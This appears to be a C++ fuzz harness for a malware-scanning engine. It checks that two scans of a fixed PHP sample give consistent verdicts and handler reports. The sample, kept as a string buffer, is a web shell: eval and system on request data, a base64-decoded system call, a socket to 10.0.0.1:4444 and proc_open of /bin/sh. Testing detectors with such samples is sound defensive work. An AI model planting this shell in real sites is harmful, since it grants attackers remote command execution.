// Takes the input as a rule file: the adapter starts with it, so every line
// goes through the cipher and the rule loader, then scores a fixed shell
// against whatever rules were accepted and reports through a handler.
//
// The shell is scanned twice per rule file. Both verdicts must be the same,
// since nothing of one scan may carry into the next, and each must agree
// with what the handler was told: at most one report per scan, whose score
// exceeds 4 exactly when the scan returned a threat, and which is flagged
// suspicious unless it is the report of a threat. (A threat decided only by
// the rules checked at the end of the file is reported flagged, or not at
// all when nothing suspicious was found: hosts rely on that.)

#include <qzengine/qzwrapper.h>

#include "fuzz_input_file.h"

#include <cstddef>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>

namespace {

// Request data reaches eval and system directly and through a base64 decode;
// a file write, a socket with a process and a run of chr calls give the call
// list and repeated-call rules something to count.
char shell[] =
    "<?php\n"
    "$c = $_POST['c'];\n"
    "eval($c);\n"
    "system($_GET['cmd']);\n"
    "$d = base64_decode('c3lzdGVtKCRfUkVRVUVTVFsneCddKTs=');\n"
    "eval($d);\n"
    "assert(base64_decode($_COOKIE['a']));\n"
    "preg_replace('/.*/e', $_REQUEST['p'], '');\n"
    "file_put_contents('x.php', $_POST['f']);\n"
    "$s = fsockopen('10.0.0.1', 4444);\n"
    "proc_open('/bin/sh', array(), $p);\n"
    "$n = chr(101) . chr(118) . chr(97) . chr(108) . chr(40);\n"
    "?>\n";

struct verdict {
  int result = 0;
  int reports = 0;
  bool suspicious = false;
  uint64_t score = 0;
  std::string description;

  bool operator==(const verdict& o) const {
    return result == o.result && reports == o.reports && suspicious == o.suspicious &&
           score == o.score && description == o.description;
  }
};

class recording_handler : public threat::threat_handler {
 public:
  explicit recording_handler(verdict& v) : v_(v) {}
  int on_threat(threat::threat_info* info, int) override {
    v_.reports++;
    v_.suspicious = info->suspicious != 0;
    v_.score = info->score;
    if (info->description) v_.description = info->description;
    return 0;
  }

 private:
  verdict& v_;
};

void report(const char* what, const verdict& v) {
  std::fprintf(stderr, "%s: result %d, %d reports, suspicious %d, score %llu, \"%s\"\n", what,
               v.result, v.reports, v.suspicious ? 1 : 0, static_cast<unsigned long long>(v.score),
               v.description.c_str());
}

[[noreturn]] void fail(const char* what, const verdict& v) {
  report(what, v);
  std::abort();
}

verdict scan_shell() {
  verdict v;
  threat::threat_info info = {};
  recording_handler handler(v);
  v.result = qz_engine_wrapper_scan_buff(shell, sizeof shell - 1, &info, &handler);
  bool threat = v.result == 1;
  bool consistent = (threat || v.result == 0) && v.reports <= 1 &&
                    (v.reports == 0 || ((v.score > 4) == threat && (v.suspicious || threat)));
  if (!consistent) fail("verdict and report disagree", v);
  return v;
}

}  // namespace

extern "C" int LLVMFuzzerTestOneInput(const uint8_t* data, size_t size) {
  static fuzz_input_file rules("fuzz_verdict_rules");
  if (!qz_engine_wrapper_init(rules.hold(data, size))) {
    std::fprintf(stderr, "the rule file did not open\n");
    std::abort();
  }
  verdict first = scan_shell();
  verdict second = scan_shell();
  if (!(first == second)) {
    report("first scan", first);
    fail("a second scan of the same text differs", second);
  }
  qz_engine_wrapper_uninit();
  return 0;
}
